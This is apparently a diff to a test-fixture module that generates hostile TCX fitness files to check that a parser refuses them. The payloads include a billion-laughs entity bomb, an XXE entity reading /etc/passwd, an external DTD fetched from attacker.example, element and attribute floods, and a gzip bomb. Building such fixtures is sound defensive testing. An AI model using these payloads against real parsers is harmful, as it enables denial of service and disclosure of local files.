@@ -8,6 +8,7 @@ readable and their sizes can be changed.
 
 from __future__ import annotations
 
+import gzip
 import struct
 from collections.abc import Callable
 from dataclasses import dataclass
@@ -83,6 +84,103 @@ def gpx_external_entity(target: str = "file:///etc/passwd") -> bytes:
     ).encode()
 
 
+TCX_HEAD = (
+    '<?xml version="1.0" encoding="UTF-8"?>\n<TrainingCenterDatabase '
+    'xmlns="http://www.garmin.com/xmlschemas/TrainingCenterDatabase/v2" '
+    'xmlns:ns3="http://www.garmin.com/xmlschemas/ActivityExtension/v2">\n'
+)
+
+
+def _tcx_trackpoint(i: int, inner: str = "") -> str:
+    return (
+        f"<Trackpoint><Time>2024-05-04T07:{i // 60 % 60:02d}:{i % 60:02d}Z</Time><Position>"
+        f"<LatitudeDegrees>{48.0 + i * 2.7e-5:.6f}</LatitudeDegrees><LongitudeDegrees>11.0</LongitudeDegrees>"
+        f"</Position><DistanceMeters>{3.0 * i:.1f}</DistanceMeters><HeartRateBpm><Value>150</Value></HeartRateBpm>"
+        f"<Extensions><ns3:TPX><ns3:RunCadence>86</ns3:RunCadence>{inner}</ns3:TPX></Extensions></Trackpoint>\n"
+    )
+
+
+def _tcx(points: int = 120, extra: str = "", first_inner: str = "", head: str = TCX_HEAD) -> bytes:
+    """A short, valid TCX run (1 Hz, ~3 m/s), with `extra` inside its activity and `first_inner` in the
+    first trackpoint's TPX, so the file is a run but for the attack."""
+    rows = _tcx_trackpoint(0, first_inner) + "".join(_tcx_trackpoint(i) for i in range(1, points))
+    return (
+        head + '<Activities><Activity Sport="Running"><Id>2024-05-04T07:00:00Z</Id>'
+        f'<Lap StartTime="2024-05-04T07:00:00Z"><Track>\n{rows}</Track></Lap>{extra}'
+        "</Activity></Activities></TrainingCenterDatabase>\n"
+    ).encode()
+
+
+def tcx_billion_laughs(levels: int = 9) -> bytes:
+    """The classic: ten entities of ten references each, nested `levels` deep (10^9 "lol"s, ~3 GB once expanded)."""
+    entities = ['<!ENTITY lol0 "lol">'] + [
+        f'<!ENTITY lol{k} "{f"&lol{k - 1};" * 10}">' for k in range(1, levels + 1)
+    ]
+    dtd = "<!DOCTYPE TrainingCenterDatabase [\n" + "\n".join(entities) + "\n]>\n"
+    head = TCX_HEAD.replace("\n<TrainingCenterDatabase", "\n" + dtd + "<TrainingCenterDatabase", 1)
+    return _tcx(extra=f"<Notes>&lol{levels};</Notes>", head=head)
+
+
+def tcx_external_entity(target: str = "file:///etc/passwd") -> bytes:
+    """An external entity naming a local file, read into the activity's notes by a careless parser."""
+    head = TCX_HEAD.replace(
+        "\n<TrainingCenterDatabase",
+        f'\n<!DOCTYPE TrainingCenterDatabase [<!ENTITY secret SYSTEM "{target}">]>\n<TrainingCenterDatabase', 1,
+    )
+    return _tcx(extra="<Notes>&secret;</Notes>", head=head)
+
+
+def tcx_external_dtd(url: str = "http://attacker.example/tcx.dtd") -> bytes:
+    """A DOCTYPE pointing at a DTD on the network: a parser that loads it calls the attacker (SSRF)."""
+    head = TCX_HEAD.replace(
+        "\n<TrainingCenterDatabase", f'\n<!DOCTYPE TrainingCenterDatabase SYSTEM "{url}">\n<TrainingCenterDatabase', 1
+    )
+    return _tcx(head=head)
+
+
+def tcx_deep_nesting(depth: int = 100_000) -> bytes:
+    """`depth` nested elements inside a trackpoint's extension (700 KB): recursion, or one element object per level."""
+    return _tcx(first_inner="<x>" * depth + "</x>" * depth)
+
+
+def tcx_attribute_flood(attributes: int = 200_000) -> bytes:
+    """One element with `attributes` attributes (2.3 MB): expat slows down superlinearly (800,000 took 4.6 s)."""
+    attrs = " ".join(f'a{i}="1"' for i in range(attributes))
+    return _tcx(first_inner=f"<ns3:Note {attrs}/>")
+
+
+def tcx_distinct_namespaces(count: int = 8_000) -> bytes:
+    """A valid TCX declaring `count` different namespaces, as the GPX attack does."""
+    return _tcx(first_inner="".join(f'<n{i}:x xmlns:n{i}="urn:attack:{i}">1</n{i}:x>' for i in range(count)))
+
+
+def tcx_tag_flood(tags: int = 6_500_000) -> bytes:
+    """26 MB of empty elements (`<a/>` × `tags`) in one trackpoint: 6.5 million tree nodes, ~1 GB in lxml."""
+    return _tcx(first_inner="<a/>" * tags)
+
+
+def tcx_repeated_trackpoints(megabytes: float = 200.0) -> bytes:
+    """One real trackpoint over and over: a plain run file of `megabytes` (a 200 MB "activity" by default).
+
+    Tests build it small and lower the caps (analysis.io.source.MAX_ACTIVITY_BYTES, analysis.io.tcx.MAX_TCX_TAGS)
+    to match, so what is refused and where is the same as for the full-size file.
+    """
+    point = _tcx_trackpoint(7)
+    return _tcx(points=1).replace(
+        b"</Track>", point.encode() * max(1, int(megabytes * 1e6) // len(point)) + b"</Track>", 1
+    )
+
+
+def tcx_gzip_bomb(unpacked_mb: int = 200) -> bytes:
+    """A `.tcx.gz` of 200 KB that unpacks to `unpacked_mb` MB: a TCX head, then whitespace (~1,000 times its size).
+
+    Concatenated gzip members are one file to gzip readers, so one compressed megabyte repeated is enough:
+    nothing of that size is ever built here.
+    """
+    header = TCX_HEAD.encode() + b'<Activities><Activity Sport="Running"><Lap><Track>\n'
+    return gzip.compress(header) + gzip.compress(b" " * 1_000_000, compresslevel=9) * unpacked_mb
+
+
 def fit_tiny_messages(size_bytes: int = 1_000_000, payload_bytes: int = 0, trailer: bytes = b"") -> bytes:
     """A FIT file with valid header and file CRCs, filled with record messages of `payload_bytes` each.
 
@@ -139,6 +237,7 @@ class Attack:
     kind: str  # "activity" (read_activity) or "strength" (read_strength_log)
     refusal: str  # a fragment of the InputError message
     what: str  # the attack, in a sentence
+    before_parse: bool = True  # refused before any XML parser or FIT decoder runs (else by the parser's own limits)
 
 
 ATTACKS: tuple[Attack, ...] = (
@@ -160,6 +259,20 @@ ATTACKS: tuple[Attack, ...] = (
     Attack("fit-two-byte-messages-fallback", "twos-fallback.fit",
            lambda: fit_tiny_messages(payload_bytes=1, trailer=bytes([0x05])), "activity",
            "reference decoder", "1 MB of two-byte heart-rate messages (500,000), ending in a message for fitparse"),
+    Attack("tcx-billion-laughs", "laughs.tcx", tcx_billion_laughs, "activity", "DTD or XML entities",
+           "ten nested entities of ten references each: 10^9 'lol's once expanded"),
+    Attack("tcx-external-entity", "xxe.tcx", tcx_external_entity, "activity", "DTD or XML entities",
+           "external entity naming /etc/passwd"),
+    Attack("tcx-external-dtd", "dtd.tcx", tcx_external_dtd, "activity", "DTD or XML entities",
+           "DOCTYPE loading a DTD from the network"),
+    Attack("tcx-distinct-namespaces", "namespaces.tcx", tcx_distinct_namespaces, "activity",
+           "different XML namespaces", "8,000 distinct namespace declarations"),
+    Attack("tcx-attribute-flood", "attributes.tcx", tcx_attribute_flood, "activity", "more than 100 attributes",
+           "one element with 200,000 attributes (2.3 MB)"),
+    Attack("tcx-tag-flood", "tags.tcx", tcx_tag_flood, "activity", "tags",
+           "26 MB of empty elements: 6.5 million tree nodes"),
+    Attack("tcx-deep-nesting", "deep.tcx", tcx_deep_nesting, "activity", "more than 256 deep",
+           "100,000 nested elements in a trackpoint (700 KB)", before_parse=False),
     Attack("csv-duplicate-headers", "dupes.csv", csv_duplicate_headers, "strength", "columns in its header",
            "CSV header of 40,000 duplicate names"),
 )
